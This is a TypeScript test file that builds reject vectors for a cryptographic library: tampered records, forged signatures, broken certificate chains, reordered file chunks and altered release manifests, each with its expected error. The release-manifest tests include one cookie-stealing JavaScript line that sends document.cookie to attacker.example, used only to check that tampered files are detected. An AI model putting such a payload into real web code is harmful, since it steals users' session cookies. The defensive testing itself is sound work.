/**
 * Reject vectors: every way a reader must refuse its input, made by altering the outputs of
 * the positive vectors (flipped bytes, wrong ids, swapped records, reordered chunks...).
 * Each is checked against the library as it is built.
 */
import { type CaseKey, type VaultKey, brandAs } from '../../src/brands';
import { aeadEncrypt } from '../../src/aead';
import { adOf } from '../../src/binding';
import { type Certificate } from '../../src/certificates';
import { generateDeskKeyPair } from '../../src/desk-keys';
import { concatBytes, fromBase64Url, utf8 } from '../../src/encoding';
import { withRecordedRandom } from '../../src/internal/deterministic-random';
import { sealKey } from '../../src/sealed-box';
import { hashReleaseFile, releaseBuildId } from '../../src/release';
import { encryptSigned } from '../../src/signed-payload';
import { lib } from '../../src/sodium';
import { wrapVaultKey } from '../../src/vault';
import { type Vector } from '../vector-runner';
import { reject } from './build-vectors';
import { type JsonObject, b64, bytes, identityFrom, namedSeed, obj, rootFrom, seedsFor, str, toJson } from './vector-io';

function find(vectors: readonly Vector[], id: string): Vector & { expected: JsonObject } {
  const vector = vectors.find((candidate) => candidate.id === id);
  if (!vector?.expected) throw new Error(`no positive vector ${id}`);
  return vector as Vector & { expected: JsonObject };
}

/** Flips the lowest bit of byte `index` (negative: from the end) of base64url `text`. */
function flipB64(text: string, index: number): string {
  const raw = fromBase64Url(text, 'flip').slice();
  const at = index < 0 ? raw.length + index : index;
  raw[at] = (raw[at] ?? 0) ^ 1;
  return b64(raw);
}

/** Replaces field `field` (0 = prefix) of a dot-separated string. */
function withField(text: string, field: number, value: string): string {
  const parts = text.split('.');
  parts[field] = value;
  return parts.join('.');
}

function field(text: string, index: number): string {
  return text.split('.')[index] ?? '';
}

export async function buildRejectVectors(vectors: readonly Vector[]): Promise<Vector[]> {
  const out: Vector[] = [];
  const add = async (id: string, op: string, description: string, inputs: JsonObject, expectedError: string): Promise<void> => {
    out.push(await reject([...vectors, ...out], id, op, description, inputs, expectedError));
  };

  // base64url
  for (const [id, text] of [['trailing-bits', 'AB'], ['padding', 'AA=='], ['length-1-mod-4', 'AAAAA'], ['alphabet', 'AA+A'], ['whitespace', 'AA A']] as const) {
    await add(`b64-${id}`, 'base64url', `base64url decoder rejects ${id}`, { text }, 'bad_encoding');
  }

  // case records (a1)
  const rec = find(vectors, 'record');
  const recArgs = { caseKey: str(rec.inputs, 'caseKey'), binding: obj(rec.inputs, 'binding'), authorKid: str(rec.expected, 'authorKid'), authorSignPk: str(rec.expected, 'authorSignPk') };
  const ct = str(rec.expected, 'ciphertext');
  const recordCase = (id: string, description: string, change: Partial<JsonObject>, code: string): Promise<void> =>
    add(`record-${id}`, 'record-open', description, { ...recArgs, ciphertext: ct, ...change } as JsonObject, code);
  await recordCase('prefix-a2', 'unknown version prefix a2', { ciphertext: withField(ct, 0, 'a2') }, 'bad_prefix');
  await recordCase('no-prefix', 'missing prefix', { ciphertext: ct.slice(3) }, 'bad_prefix');
  await recordCase('extra-field', 'five fields', { ciphertext: `${ct}.AAAA` }, 'bad_encoding');
  await recordCase('check-noncanonical', 'check field with non-zero trailing bits', { ciphertext: withField(ct, 1, field(ct, 1).slice(0, -1) + 'B') }, 'bad_encoding');
  await recordCase('nonce-23', 'nonce of 23 bytes', { ciphertext: withField(ct, 2, b64(fromBase64Url(field(ct, 2), 'n').subarray(1))) }, 'bad_length');
  await recordCase('ct-unpadded-length', 'ciphertext not 256k+16 bytes', { ciphertext: withField(ct, 3, b64(concatBytes(fromBase64Url(field(ct, 3), 'c'), new Uint8Array(1)))) }, 'bad_length');
  await recordCase('flip-key-check', 'key check altered', { ciphertext: withField(ct, 1, flipB64(field(ct, 1), 0)) }, 'wrong_key');
  await recordCase('flip-ad-check', 'AD check altered', { ciphertext: withField(ct, 1, flipB64(field(ct, 1), 8)) }, 'wrong_ad');
  await recordCase('wrong-case-key', 'opened with another case key', { caseKey: namedSeed('other-case-key') }, 'wrong_key');
  await recordCase('wrong-record-id', 'opened as another record', { binding: { ...obj(rec.inputs, 'binding'), recordId: 'rec-9999' } }, 'wrong_ad');
  await recordCase('swapped-case', 'record moved to another case', { binding: { ...obj(rec.inputs, 'binding'), caseId: 'case-0002' } }, 'wrong_ad');
  await recordCase('wrong-kind', 'opened as another record kind', { binding: { ...obj(rec.inputs, 'binding'), recordKind: 'note' } }, 'wrong_ad');
  await recordCase('flip-nonce', 'nonce altered', { ciphertext: withField(ct, 2, flipB64(field(ct, 2), 5)) }, 'tampered');
  await recordCase('flip-body', 'first ciphertext byte altered', { ciphertext: withField(ct, 3, flipB64(field(ct, 3), 0)) }, 'tampered');
  await recordCase('flip-tag', 'last (tag) byte altered', { ciphertext: withField(ct, 3, flipB64(field(ct, 3), -1)) }, 'tampered');
  await recordCase('wrong-author-key', 'author key is not the one named by authorKid', { authorSignPk: b64(identityFrom(seedsFor('requester')).signPk) }, 'wrong_key');
  const other = find(vectors, 'record-empty');
  await recordCase('swapped-record', 'another record of the same case put in its place', { ciphertext: str(other.expected, 'ciphertext') }, 'wrong_ad');

  // Authenticated but wrong inside: made with the internal functions, as a malicious key holder could.
  const caseKey = brandAs<CaseKey>(bytes(rec.inputs, 'caseKey'));
  const b = obj(rec.inputs, 'binding');
  const binding = { purpose: 'case-record', caseId: str(b, 'caseId'), recordId: str(b, 'recordId'), recordKind: str(b, 'recordKind') } as const;
  const victim = identityFrom(seedsFor('staff'));
  const attacker = identityFrom(seedsFor('attacker'));
  const forged = withRecordedRandom('forged-author', () => encryptSigned(caseKey, binding, { said: 'forged' }, attacker)).result;
  await recordCase('forged-author', 'signed by another key but labelled with the victim kid', { ciphertext: forged.ciphertext }, 'bad_signature');
  const sign = (json: string): Uint8Array => concatBytes(lib().crypto_sign_detached(concatBytes(adOf(binding), utf8(json)), victim.signSk), utf8(json));
  const sealedPlain = (plain: Uint8Array): string => withRecordedRandom(`plain-${plain.length}`, () => aeadEncrypt(caseKey, binding, plain)).result;
  await recordCase('bad-padding', 'authenticated plaintext without valid padding', { ciphertext: sealedPlain(new Uint8Array(256)) }, 'malformed_plaintext');
  await recordCase('not-json', 'signed plaintext that is not JSON', { ciphertext: sealedPlain(lib().pad(sign('{not json'), 256)) }, 'malformed_plaintext');
  await recordCase('not-canonical', 'signed JSON with unsorted keys', { ciphertext: sealedPlain(lib().pad(sign('{"b":1,"a":2}'), 256)) }, 'malformed_plaintext');

  // File keys and metadata
  const fk = find(vectors, 'file-key');
  const fkArgs = { caseKey: str(fk.inputs, 'caseKey'), caseId: 'case-0001', fileId: 'file-0001', wrapped: str(fk.expected, 'wrapped') };
  await add('file-key-wrong-file', 'file-key-open', 'file key opened for another file', { ...fkArgs, fileId: 'file-0002' }, 'wrong_ad');
  await add('file-key-as-meta', 'file-meta-open', 'a wrapped file key offered as file metadata', { ...fkArgs, ciphertext: fkArgs.wrapped }, 'bad_length');
  const meta = find(vectors, 'file-meta');
  await add('file-meta-as-file-key', 'file-key-open', 'file metadata offered as a wrapped file key', { ...fkArgs, wrapped: str(meta.expected, 'ciphertext') }, 'bad_length');
  await add('file-meta-wrong-file', 'file-meta-open', 'metadata moved to another file', { ...fkArgs, fileId: 'file-0002', ciphertext: str(meta.expected, 'ciphertext') }, 'wrong_ad');

  // Vaults
  const vault = find(vectors, 'vault');
  const vaultArgs = { vaultKey: str(vault.expected, 'vaultKey'), userId: 'user-7f3a', vault: str(vault.expected, 'vault') };
  await add('vault-wrong-user', 'vault-open', 'vault opened for another user', { ...vaultArgs, userId: 'user-0000' }, 'wrong_ad');
  await add('vault-wrong-key', 'vault-open', 'vault opened with another vault key', { ...vaultArgs, vaultKey: namedSeed('other-vault-key') }, 'wrong_key');
  await add('vault-flip', 'vault-open', 'vault ciphertext altered', { ...vaultArgs, vault: withField(vaultArgs.vault, 3, flipB64(field(vaultArgs.vault, 3), 10)) }, 'tampered');
  const ref = { userId: 'user-7f3a', unlockMethodId: 'method-cheap' };
  const cheap = withRecordedRandom('cheap-wrap', () =>
    wrapVaultKey(brandAs<VaultKey>(bytes({ k: namedSeed('vault-key') }, 'k')), ref, { method: 'passphrase', passphrase: 'right passphrase' }, { opsLimit: 1, memLimitBytes: 8 * 1024 * 1024 }),
  ).result;
  const wrap = toJson(cheap) as JsonObject;
  await add('vault-wrong-passphrase', 'vault-unwrap', 'a wrong passphrase', { wrap, ...ref, secret: { passphrase: 'wrong passphrase' } }, 'wrong_key');
  await add('vault-wrong-method-id', 'vault-unwrap', 'a wrap read for another unlock method', { wrap, ...ref, unlockMethodId: 'method-other', secret: { passphrase: 'right passphrase' } }, 'wrong_ad');
  await add('wrap-v2', 'vault-wrap-parse', 'unknown wrap version', { wrap: { ...wrap, v: 2 } }, 'bad_prefix');
  await add('wrap-ops-too-high', 'vault-wrap-parse', 'opsLimit above the bound', { wrap: { ...wrap, opsLimit: 100 } }, 'bad_encoding');
  await add('wrap-mem-too-high', 'vault-wrap-parse', 'memLimitBytes above the bound', { wrap: { ...wrap, memLimitBytes: 4 * 1024 * 1024 * 1024 } }, 'bad_encoding');
  await add('wrap-extra-member', 'vault-wrap-parse', 'an unknown member', { wrap: { ...wrap, hint: 'x' } }, 'bad_encoding');
  await add('wrap-short-salt', 'vault-wrap-parse', 'a 15-byte salt', { wrap: { ...wrap, salt: b64(new Uint8Array(15)) } }, 'bad_length');

  // Case key envelopes (s1)
  const envelope = find(vectors, 'case-key-grant');
  const g = obj(envelope.expected, 'envelope');
  const envelopeArgs = { envelope: g, caseId: 'case-0001', opener: seedsFor('requester'), sealerSignPk: b64(victim.signPk) };
  const sealed = str(g, 'sealedKey');
  await add('envelope-wrong-recipient', 'envelope-open', 'opened by someone it was not sealed to', { ...envelopeArgs, opener: seedsFor('attacker') }, 'wrong_key');
  await add('envelope-other-case', 'envelope-open', 'envelope moved to another case', { ...envelopeArgs, caseId: 'case-0002' }, 'wrong_ad');
  await add('envelope-wrong-sealer', 'envelope-open', 'sealer key differs from sealerKid', { ...envelopeArgs, sealerSignPk: b64(attacker.signPk) }, 'wrong_key');
  await add('envelope-flip-signature', 'envelope-open', 'envelope signature altered', { ...envelopeArgs, envelope: { ...g, signature: flipB64(str(g, 'signature'), 3) } }, 'bad_signature');
  await add('envelope-flip-sealed', 'envelope-open', 'sealed bytes altered', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 2, flipB64(field(sealed, 2), 40)) } }, 'tampered');
  await add('envelope-prefix', 'envelope-open', 'unknown sealed-key prefix s2', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 0, 's2') } }, 'bad_prefix');
  await add('envelope-short', 'envelope-open', 'sealed bytes one byte short', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 2, b64(fromBase64Url(field(sealed, 2), 's').subarray(1))) } }, 'bad_length');

  // Desk keys
  const desk = find(vectors, 'desk-key');
  const deskArgs = { rootSignPk: str(desk.expected, 'rootSignPk'), deskChain: desk.expected['deskChain'] ?? null, member: seedsFor('staff'), now: '2030-06-01T00:00:00Z', sealed: str(desk.expected, 'sealed') };
  const member = identityFrom(seedsFor('staff'));
  const impostor = withRecordedRandom('impostor-desk', () => {
    const other = generateDeskKeyPair('desk-legal', 2);
    return sealKey(other.deskSk, member.encPk, { purpose: 'desk-key', ids: ['desk-legal', '2'] });
  }).result;
  await add('desk-key-mismatch', 'desk-key-open', 'a sealed secret key that is not the certified desk key', { ...deskArgs, sealed: impostor }, 'public_key_mismatch');
  await add('desk-key-wrong-member', 'desk-key-open', 'opened by another member', { ...deskArgs, member: seedsFor('admin') }, 'wrong_key');
  const root = rootFrom(seedsFor('root'));
  const admin = identityFrom(seedsFor('admin'));
  const certSign = (signer: Uint8Array, body: Omit<Certificate, 'signature' | 'v' | 'issuerKid'>, issuerKid: string): Certificate => ({
    v: 1,
    ...body,
    issuerKid: issuerKid as Certificate['issuerKid'],
    signature: b64(lib().crypto_sign_detached(utf8(`ashar/v1|cert|${body.kind}|${body.subjectId}|${body.encPk}|${body.signPk}|${body.notAfter}`), signer)),
  });
  const [deskCert, adminCert] = (desk.expected['deskChain'] as unknown as Certificate[]) ?? [];
  if (!deskCert || !adminCert) throw new Error('desk chain missing');
  const v3 = certSign(admin.signSk, { ...deskCert, subjectId: 'desk-legal:3' }, deskCert.issuerKid);
  await add('desk-key-other-version', 'desk-key-open', 'version-2 sealed key opened as version 3', { ...deskArgs, deskChain: toJson([v3, adminCert]) }, 'wrong_ad');

  // Certificates
  const staff = find(vectors, 'cert-staff');
  const chain = staff.expected['chain'] as unknown as Certificate[];
  const [staffCert] = chain;
  if (!staffCert) throw new Error('staff chain missing');
  const certArgs = { chain: toJson(chain), rootSignPk: str(staff.expected, 'rootSignPk'), now: '2030-06-01T00:00:00Z' };
  await add('cert-wrong-root', 'certificate-verify', 'verified against another root key', { ...certArgs, rootSignPk: b64(attacker.signPk) }, 'untrusted_certificate');
  await add('cert-expired', 'certificate-verify', 'verified after notAfter', { ...certArgs, now: '2031-01-01T00:00:00Z' }, 'untrusted_certificate');
  await add('cert-flip-signature', 'certificate-verify', 'leaf signature altered', { ...certArgs, chain: toJson([{ ...staffCert, signature: flipB64(staffCert.signature, 0) }, adminCert]) }, 'bad_signature');
  await add('cert-changed-key', 'certificate-verify', 'leaf encPk replaced after signing', { ...certArgs, chain: toJson([{ ...staffCert, encPk: b64(attacker.encPk) }, adminCert]) }, 'bad_signature');
  const rootStaff = certSign(root.signSk, { kind: 'staff', subjectId: 'user-7f3a', encPk: staffCert.encPk, signPk: staffCert.signPk, notAfter: staffCert.notAfter }, adminCert.issuerKid);
  await add('cert-root-issued-staff', 'certificate-verify', 'a staff certificate signed directly by the root', { ...certArgs, chain: toJson([rootStaff]) }, 'untrusted_certificate');
  await add('cert-broken-chain', 'certificate-verify', 'leaf issued by someone other than the next certificate', { ...certArgs, chain: toJson([staffCert, { ...adminCert, signPk: b64(attacker.signPk) }]) }, 'untrusted_certificate');
  await add('cert-too-long', 'certificate-verify', 'a chain of three', { ...certArgs, chain: toJson([staffCert, adminCert, adminCert]) }, 'untrusted_certificate');
  await add('cert-v2', 'certificate-verify', 'unknown certificate version', { ...certArgs, chain: toJson([{ ...staffCert, v: 2 }, adminCert]) }, 'bad_prefix');
  await add('cert-bad-date', 'certificate-verify', 'notAfter with milliseconds', { ...certArgs, chain: toJson([{ ...staffCert, notAfter: '2031-01-01T00:00:00.000Z' }, adminCert]) }, 'bad_encoding');
  await add('cert-extra-member', 'certificate-verify', 'an unknown member', { ...certArgs, chain: toJson([{ ...staffCert, role: 'lead' }, adminCert]) }, 'bad_encoding');

  // Attachments: chunks re-made from file-stream-200000 (chunks 0-2 full, 3 final)
  const source = 'file-stream-200000';
  const all = [0, 1, 2, 3].map((from) => ({ from }));
  const chunks = (id: string, description: string, inputs: JsonObject, code: string): Promise<void> => add(`stream-${id}`, 'stream-chunks', description, { source, ...inputs }, code);
  await chunks('ok-control', 'control: all chunks in order must pass — listed to prove the op can succeed', { take: all }, 'none');
  await chunks('missing-final', 'chunks 0-2 without the final chunk', { take: all.slice(0, 3) }, 'truncated_stream');
  await chunks('index-gap', 'chunk 2 sent as index 2 right after 0', { take: [{ from: 0 }, { from: 2, index: 2 }] }, 'chunk_order');
  await chunks('duplicate-index', 'chunk 0 sent twice', { take: [{ from: 0 }, { from: 0, index: 0 }] }, 'chunk_order');
  await chunks('after-final', 'a chunk after the final one', { take: [...all, { from: 3, index: 4 }] }, 'chunk_order');
  await chunks('reordered-bytes', 'chunk 1 labelled as index 0', { take: [{ from: 1, index: 0 }] }, 'tampered');
  await chunks('flipped', 'a byte of chunk 1 altered', { take: [{ from: 0 }, { from: 1, flip: 1000 }] }, 'tampered');
  await chunks('too-long', 'a chunk longer than 65553 bytes', { take: [{ from: 0, append: 1 }] }, 'bad_length');
  await chunks('wrong-file', 'header checked for another file', { take: all, fileId: 'file-0002' }, 'wrong_ad');
  await chunks('wrong-key', 'opened with another file key', { take: all, fileKey: namedSeed('other-file-key') }, 'wrong_key');
  const header = str(find(vectors, source).expected, 'header');
  await chunks('header-prefix', 'unknown header prefix x2', { take: all, header: withField(header, 0, 'x2') }, 'bad_prefix');
  await chunks('header-short', 'a 23-byte header', { take: all, header: withField(header, 2, b64(fromBase64Url(field(header, 2), 'h').subarray(1))) }, 'bad_length');
  const bytesCase = (id: string, description: string, inputs: JsonObject, code: string): Promise<void> => add(`stream-bytes-${id}`, 'stream-bytes', description, { source, ...inputs }, code);
  await bytesCase('missing-final', 'byte stream ending at a chunk boundary before the final chunk', { take: all.slice(0, 3) }, 'truncated_stream');
  await bytesCase('empty', 'empty byte stream', { take: [] }, 'truncated_stream');
  await bytesCase('swapped', 'chunks 1 and 2 swapped', { take: [{ from: 0 }, { from: 2 }, { from: 1 }, { from: 3 }] }, 'tampered');
  await bytesCase('duplicated', 'chunk 1 repeated', { take: [{ from: 0 }, { from: 1 }, { from: 1 }, { from: 2 }, { from: 3 }] }, 'tampered');
  await bytesCase('cut', 'last 10 bytes missing', { take: all, cut: 10 }, 'tampered');
  await bytesCase('trailing-in-last-piece', 'a byte after a short final chunk joins its piece', { take: all, extra: b64(new Uint8Array(1)) }, 'tampered');
  await add('stream-bytes-trailing-piece', 'stream-bytes', 'a byte after a full-size final chunk', { source: 'file-stream-65536', take: [{ from: 0 }], extra: b64(new Uint8Array(1)) }, 'chunk_order');

  // Codes, challenges, root export
  await add('receipt-letter-u', 'receipt-normalise', 'U is not Crockford base32', { input: 'UUUU-0000-0000-0000-0000' }, 'bad_encoding');
  await add('receipt-19', 'receipt-normalise', '19 characters', { input: '0000-0000-0000-0000-000' }, 'bad_length');
  await add('receipt-21', 'receipt-normalise', '21 characters', { input: '0000-0000-0000-0000-00000' }, 'bad_length');
  await add('recovery-27', 'recovery-normalise', '27 characters', { input: '0000-0000-0000-0000-0000-0000-000' }, 'bad_length');
  const challenge = find(vectors, 'challenge');
  const chArgs = { signPk: str(challenge.expected, 'signPk'), instanceId: 'ashar.example.org', challenge: str(challenge.inputs, 'challenge'), signature: str(challenge.expected, 'signature') };
  await add('challenge-other', 'challenge-verify', 'signature of another challenge', { ...chArgs, challenge: namedSeed('other-challenge') }, 'bad_signature');
  await add('challenge-other-instance', 'challenge-verify', 'signature made for another instance', { ...chArgs, instanceId: 'other.example.org' }, 'bad_signature');
  await add('challenge-short', 'challenge-verify', 'a 31-byte challenge', { ...chArgs, challenge: b64(new Uint8Array(31)) }, 'bad_length');
  const rootKey = find(vectors, 'root-key');
  await add('root-key-prefix', 'root-key-import', 'unknown root export prefix', { text: withField(str(rootKey.expected, 'exported'), 0, 'rk2') }, 'bad_prefix');
  await add('root-key-short', 'root-key-import', 'a 31-byte seed', { text: `rk1.${b64(new Uint8Array(31))}` }, 'bad_length');

  // Release manifests (§15)
  const release = find(vectors, 'release-manifest');
  const manifest = obj(release.expected, 'manifest');
  const releaseArgs = { manifest, rootSignPk: str(release.expected, 'rootSignPk') };
  const releaseFiles = obj(manifest, 'files') as Readonly<Record<string, string>>;
  const evil = { ...releaseFiles, '/assets/index-a1b2c3.js': hashReleaseFile(utf8('fetch("https://attacker.example/" + document.cookie);\n')) };
  await add('release-control', 'release-verify', 'the published manifest verifies (control)', releaseArgs, 'none');
  await add('release-other-root', 'release-verify', 'verified against another root key', { ...releaseArgs, rootSignPk: b64(rootFrom(seedsFor('attacker')).signPk) }, 'wrong_key');
  await add('release-changed-file', 'release-verify', 'a file hash replaced, build id left', { ...releaseArgs, manifest: { ...manifest, files: evil } }, 'bad_encoding');
  await add('release-changed-file-new-id', 'release-verify', 'a file hash replaced and the build id recomputed', { ...releaseArgs, manifest: { ...manifest, files: evil, buildId: releaseBuildId(evil) } }, 'bad_signature');
  await add('release-later-date', 'release-verify', 'issuedAt moved after signing', { ...releaseArgs, manifest: { ...manifest, issuedAt: '2031-01-01T00:00:00Z' } }, 'bad_signature');
  await add('release-flip-signature', 'release-verify', 'signature altered', { ...releaseArgs, manifest: { ...manifest, signature: flipB64(str(manifest, 'signature'), 5) } }, 'bad_signature');
  await add('release-v2', 'release-verify', 'unknown manifest version', { ...releaseArgs, manifest: { ...manifest, v: 2 } }, 'bad_prefix');
  await add('release-extra-member', 'release-verify', 'an unknown member', { ...releaseArgs, manifest: { ...manifest, label: 'x' } }, 'bad_encoding');
  const dotted = { ...releaseFiles, '/.well-known/x.js': hashReleaseFile(utf8('x')) };
  await add('release-dot-path', 'release-verify', 'a path with a segment that starts with a dot', { ...releaseArgs, manifest: { ...manifest, files: dotted, buildId: releaseBuildId(dotted) } }, 'bad_encoding');
  const noWorker = Object.fromEntries(Object.entries(releaseFiles).filter(([path]) => path !== '/sw.js'));
  await add('release-no-service-worker', 'release-verify', 'a list without /sw.js', { ...releaseArgs, manifest: { ...manifest, files: noWorker, buildId: releaseBuildId(noWorker) } }, 'bad_encoding');
  await add('release-short-signature', 'release-verify', 'a 63-byte signature', { ...releaseArgs, manifest: { ...manifest, signature: b64(new Uint8Array(63)) } }, 'bad_length');
  return out;
}
